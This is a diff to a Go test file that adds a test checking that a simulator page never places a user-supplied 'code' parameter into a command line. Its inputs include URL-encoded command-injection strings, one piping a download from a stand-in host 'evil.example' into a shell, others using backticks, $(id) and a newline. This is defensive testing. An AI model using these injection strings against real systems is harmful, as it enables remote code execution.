@@ -280,6 +280,18 @@ func TestWhatCallersFillCannotBecomeMarkup(t *testing.T) {
 	}
 }
 
+func TestWhatIsNoCodeNeverStandsInACommandLine(t *testing.T) {
+	b := open(t, nil).browser()
+	if shown := b.get("/simulator/plain?code=eyJhbGciOiJkaXIifQ..a-b_c.d", "Accept", page).body; !strings.Contains(shown, "eyJhbGciOiJkaXIifQ..a-b_c.d") {
+		t.Error("a code is not shown")
+	}
+	for _, code := range []string{"x%27%3Bcurl+evil.example%7Csh%3B%27", "a%60id%60", "%24(id)", "a%0Aid"} {
+		if shown := b.get("/simulator/plain?code="+code, "Accept", page).body; strings.Contains(shown, "verify/ssn") {
+			t.Errorf("%s stands in a command line", code)
+		}
+	}
+}
+
 func TestWithoutASimulatorItsPathsDoNotExist(t *testing.T) {
 	s := open(t, func(c *pages.Config) { c.Simulator = nil })
 	b := s.browser()
